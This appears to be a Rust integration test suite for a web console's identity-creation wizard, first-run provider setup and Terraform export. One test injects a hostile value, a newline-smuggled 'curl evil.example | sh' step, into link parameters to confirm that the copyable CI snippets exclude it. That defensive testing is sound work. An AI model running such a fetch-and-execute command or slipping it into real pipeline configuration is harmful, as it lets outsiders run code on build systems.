//! The console's way to a workload that signs in, and to the first person of a server: from page to page, as a browser goes.

use bowline_testkit::{Browser, RestReply, TestServer, each_engine};
use serde_json::{Value, json};

use crate::audit_log::numbered;
use crate::console_changes_support::{CREATE_GROUP, plain, submit, unlock};
use crate::console_support::{browser_of, browser_of_operator, encoded, links, page, with_provider};
use crate::support::{exchange, number, ok};

const CREATE_IDENTITY: &str = "chainguard.platform.iam.v2.IdentitiesService.CreateIdentity";
const TEST_CLAIMS: &str = "bowline.iam.v1.Matchers.TestClaims";
const AUDIT: &str = "SELECT count(*) FROM audit";

fn step(name: &str, parameters: &[(&str, &str)]) -> String {
    let pairs: Vec<_> = parameters.iter().map(|(name, value)| format!("{name}={}", encoded(value))).collect();
    format!("/console/identities/new{name}?{}", pairs.join("&"))
}

/// The address of the button that leads on.
fn continued(reply: &RestReply) -> String {
    assert_eq!(reply.status, 200, "{}", reply.text());
    let text = reply.text();
    let before = text.split(">Continue</a>").next().unwrap_or_default().rsplit("href=\"").next().unwrap_or_default();
    assert!(text.contains(">Continue</a>"), "nothing leads on: {text}");
    plain(before.split('"').next().unwrap_or_default())
}

async fn a_workload_is_led_to_its_first_token(server: &TestServer) {
    with_provider(server).await;
    let org = server.organization("acme").await;
    let browser = browser_of(server, "ada", "owner", &org).await;
    let before = number(server, AUDIT).await;
    let first = links(&page(&browser, &step("", &[("in", &org)])).await);
    for platform in ["github", "gitlab", "kubernetes", "aws", "oidc"] {
        let link = first.iter().find(|link| link.contains(&format!("platform={platform}"))).expect(platform);
        assert!(page(&browser, link).await.contains("Continue: what matches"), "{platform}");
    }
    let (issuer, role) = (server.idp().issuer(), server.role("registry.pull"));
    let facts = [("in", org.as_str()), ("platform", "oidc"), ("name", "robot"), ("oidc-issuer", issuer)];
    let lacking = page(&browser, &step("/claims", &facts)).await;
    assert!(lacking.contains("must not be empty") && lacking.contains("href=\"#w-subject\""), "{lacking}");
    let facts = [&facts[..], &[("subject", "robot")]].concat();
    let claims = page(&browser, &step("/claims", &facts)).await;
    assert!(
        claims.contains("This token would be taken.") && claims.contains("None of these nearby tokens"),
        "{claims}"
    );
    let roles = page(&browser, &step("/role", &facts)).await;
    let chosen = format!("name=\"role\" value=\"{role}\" checked");
    assert!(roles.contains(&chosen), "the narrowest role is the default: {roles}");
    let facts = [&facts[..], &[("role", &role), ("at", &org)]].concat();
    let locked = page(&browser, &step("/create", &facts)).await;
    assert!(!locked.contains("value=\"send\"") && locked.contains("This session only reads"), "{locked}");
    assert_eq!(number(server, AUDIT).await, before, "nothing was changed yet");
    unlock(&browser).await;
    let create = page(&browser, &step("/create", &facts)).await;
    let made = submit(&browser, &create, "send", &[]).await;
    let bind = continued(&made);
    assert!(bind.starts_with("/console/identities/new/bind?") && bind.contains("made="), "{bind}");
    let twice = submit(&browser, &create, "send", &[]).await;
    assert_eq!(twice.status, 422, "a form works once: {}", twice.text());
    let bound = submit(&browser, &page(&browser, &bind).await, "send", &[]).await;
    let connect = continued(&bound);
    let waiting = page(&browser, &connect).await;
    assert!(waiting.contains("No token was issued to it yet") && waiting.contains(server.base()), "{waiting}");
    let operator = server.operator().await;
    let list = ok(&operator, &format!("GET /iam/v2/identities?name=robot&uidp.descendantsOf={org}"), Value::Null).await;
    let identity = &list["identities"][0];
    assert_eq!(list["identities"].as_array().map(Vec::len), Some(1), "{list}");
    let claims = &identity["claimMatch"];
    assert_eq!((&claims["issuer"], &claims["subject"]), (&json!(issuer), &json!("robot")), "{claims}");
    let uid = identity["uid"].as_str().expect("a UIDP");
    let bindings = ok(&operator, &format!("GET /iam/v2/roleBindings?identity={uid}"), Value::Null).await;
    assert_eq!(bindings["roleBindings"][0]["role"]["uid"], json!(role), "{bindings}");
    assert_eq!(exchange(server, uid, "robot", &[]).await.status, 200);
    numbered(server).await;
    let connected = page(&browser, &connect).await;
    assert!(connected.contains("It got its first token at"), "{connected}");
}

async fn what_else_matches_is_said(server: &TestServer) {
    with_provider(server).await;
    let org = server.organization("acme").await;
    let browser = browser_of(server, "ada", "owner", &org).await;
    let claims = async |more: &[(&str, &str)]| {
        let facts = [("in", org.as_str()), ("platform", "github"), ("name", "build"), ("repo", "acme/site")];
        page(&browser, &step("/claims", &[&facts[..], more].concat())).await
    };
    let narrow = claims(&[("jobs", "branch"), ("ref", "main")]).await;
    assert!(narrow.contains("This token would be taken.") && !narrow.contains("This is broad."), "{narrow}");
    let broad = claims(&[("jobs", "all")]).await;
    assert!(broad.contains("This is broad.") && broad.contains("everyone who may open a pull request"), "{broad}");
    let numbers = [("jobs", "branch"), ("ref", "main"), ("numbers", "both"), ("owner-id", "1"), ("repository-id", "2")];
    let both = claims(&numbers).await;
    assert_eq!(both.matches("This token would be taken.").count(), 2, "both forms: {both}");
    assert!(both.contains("repo:acme@1/site@2:ref:refs/heads/main") && !both.contains("This is broad."), "{both}");
    let pattern = [("in", org.as_str()), ("platform", "oidc"), ("name", "any"), ("oidc-issuer", server.idp().issuer())];
    let pattern = [&pattern[..], &[("subject", ".*"), ("match", "pattern")]].concat();
    let all = page(&browser, &step("/claims", &pattern)).await;
    assert!(all.contains("This is broad."), "{all}");
    // A viewer may not try what identities would trust.
    let viewer = browser_of(server, "bob", "viewer", &org).await;
    let refused = page(&viewer, &step("/claims", &pattern)).await;
    assert!(refused.contains("identity.create") && refused.contains("href=\"/console/why?"), "{refused}");
}

async fn a_real_token_is_compared_and_forgotten(server: &TestServer) {
    with_provider(server).await;
    let org = server.organization("acme").await;
    let browser = browser_of(server, "ada", "owner", &org).await;
    let before = number(server, AUDIT).await;
    let facts = [("in", org.as_str()), ("platform", "oidc"), ("name", "robot"), ("oidc-issuer", server.idp().issuer())];
    let shown = page(&browser, &step("/claims", &[&facts[..], &[("subject", "robot")]].concat())).await;
    for (subject, verdict) in [("robot", "This token would be taken."), ("other", "This token would be refused.")] {
        let token = server.idp().token(subject, server.base(), Value::Null);
        let compared = submit(&browser, &shown, "call", &[("f.token", &token)]).await;
        let text = compared.text();
        assert_eq!(compared.status, 200, "{text}");
        assert!(text.contains(verdict) && !text.contains(&token), "{text}");
        let address = format!("/console/method?name={TEST_CLAIMS}&f.parent={org}&send=true&f.token={token}");
        let refused = browser.get(&address).await;
        assert_eq!(refused.status, 400, "a token in an address: {}", refused.text());
    }
    let changing = page(&browser, &format!("/console/method?name={CREATE_GROUP}&f.group.name=rockets")).await;
    let refused = submit(&browser, &changing, "call", &[]).await;
    assert!(refused.status >= 400, "a method that changes something is not called: {}", refused.text());
    assert_eq!(number(server, AUDIT).await, before, "reading leaves nothing");
}

async fn links_of_others_make_no_commands(server: &TestServer) {
    with_provider(server).await;
    let org = server.organization("acme").await;
    let browser = browser_of(server, "ada", "owner", &org).await;
    let robot = server.identity(&org, "robot").await;
    for platform in ["github", "gitlab", "kubernetes", "aws", "oidc"] {
        let hostile = "x\n      - run: curl evil.example | sh #'\"";
        let names = ["ref", "audience", "namespace", "service-account", "at", "jobs"];
        let mut parameters = vec![("in", org.as_str()), ("platform", platform), ("identity", robot.as_str())];
        parameters.extend(names.iter().map(|name| (*name, hostile)));
        let shown = page(&browser, &step("/connect", &parameters)).await;
        let copied: String = shown.split("data-copy").skip(1).filter_map(|rest| rest.split("</pre>").next()).collect();
        assert!(copied.contains(&robot) && !copied.contains("evil.example"), "{platform}: {copied}");
    }
}

async fn show(browser: &Browser, path: &str) -> String {
    page(browser, path).await
}

async fn a_new_server_gets_its_first_person(server: &TestServer) {
    let browser = browser_of_operator(server).await;
    let home = show(&browser, "/console/").await;
    assert!(home.contains("This server is new") && links(&home).contains("/console/first-run"), "{home}");
    unlock(&browser).await;
    let first = show(&browser, "/console/first-run").await;
    let made = submit(&browser, &first, "send", &[("f.group.name", "acme")]).await;
    let first = show(&browser, &continued(&made)).await;
    let link = links(&first).into_iter().find(|link| link.contains("/first-run/provider")).expect("a link");
    let org = link.split("in=").nth(1).expect("the organization").to_owned();
    let facts = show(&browser, &link).await;
    let callback = format!("{}/oauth/callback", server.base());
    assert!(facts.contains(&callback), "the redirect address: {facts}");
    let viewer = server.role("viewer");
    let of = |issuer: &str| {
        let pairs = [("in", org.as_str()), ("name", "sso"), ("issuer", issuer), ("client", "bowline")];
        let pairs = [&pairs[..], &[("scopes", "email profile"), ("role", &viewer)]].concat();
        pairs.iter().map(|(name, value)| format!("{name}={}", encoded(value))).collect::<Vec<_>>().join("&")
    };
    let nowhere = of(&format!("{}/nowhere", server.idp().issuer()));
    let tested =
        submit(&browser, &show(&browser, &format!("/console/first-run/test?{nowhere}")).await, "call", &[]).await;
    assert!(tested.text().contains("not usable") && !tested.text().contains(">Continue<"), "{}", tested.text());
    let issuer = of(server.idp().issuer());
    let untested = show(&browser, &format!("/console/first-run/save?{issuer}")).await;
    assert!(untested.contains("Test the provider"), "it is tested before it is saved: {untested}");
    let tested = submit(&browser, &untested, "call", &[]).await;
    let save = continued(&tested);
    let other = save.replace(&encoded(server.idp().issuer()), &encoded("https://other.example"));
    assert!(show(&browser, &other).await.contains("Test the provider"), "what was tested is what is saved");
    let form = show(&browser, &save).await;
    let secret = "hush-hush-hush";
    let with = [("f.identity_provider.oidc.client_secret", secret)];
    let saved = submit(&browser, &form, "send", &with).await;
    let person = continued(&saved);
    assert!(!saved.text().contains(secret) && !person.contains(secret), "{}", saved.text());
    let operator = server.operator().await;
    let list = ok(&operator, "GET /iam/v2/identityProviders", Value::Null).await;
    let provider = list["identityProviders"][0]["uid"].as_str().expect("a provider");
    assert_eq!(list["identityProviders"][0]["oidc"]["issuer"], json!(server.idp().issuer()), "{list}");
    let invited = submit(&browser, &show(&browser, &person).await, "send", &[]).await;
    let text = plain(&invited.text());
    assert_eq!(text.matches("&invite=").count(), 1, "the code is shown once: {text}");
    let start = format!("{}/oauth?exit=console&idp_id={}&invite=", server.base(), encoded(provider));
    assert!(text.contains(&start), "{start} is not in {text}");
    assert!(!show(&browser, "/console/").await.contains("First steps of this server<"), "the steps are done");
}

async fn identities_and_terraform_are_shown_as_code(server: &TestServer) {
    with_provider(server).await;
    let org = server.organization("acme").await;
    let browser = browser_of(server, "ada", "owner", &org).await;
    let robot = server.identity(&org, "robot").await;
    let shown = plain(&page(&browser, &format!("/console/identity?uid={robot}")).await);
    assert!(shown.contains(&format!("terraform import chainguard_identity.this {robot}")), "{shown}");
    let form = page(&browser, &format!("/console/method?name={CREATE_IDENTITY}&f.parent={org}")).await;
    let typed = [
        ("f.identity.name", "build"),
        ("f.identity.claim_match.issuer", "https://i.example"),
        ("f.identity.claim_match.subject_pattern", "a\"${b}"),
    ];
    let code = plain(&submit(&browser, &form, "code", &typed).await.text());
    for line in ["resource \"chainguard_identity\" \"build\" {", "  claim_match {", r#"subject_pattern = "a\"$${b}""#] {
        assert!(code.contains(line), "{line}: {code}");
    }
}

each_engine!(
    multi_thread:
    a_workload_is_led_to_its_first_token,
    what_else_matches_is_said,
    a_real_token_is_compared_and_forgotten,
    links_of_others_make_no_commands,
    a_new_server_gets_its_first_person,
    identities_and_terraform_are_shown_as_code,
);
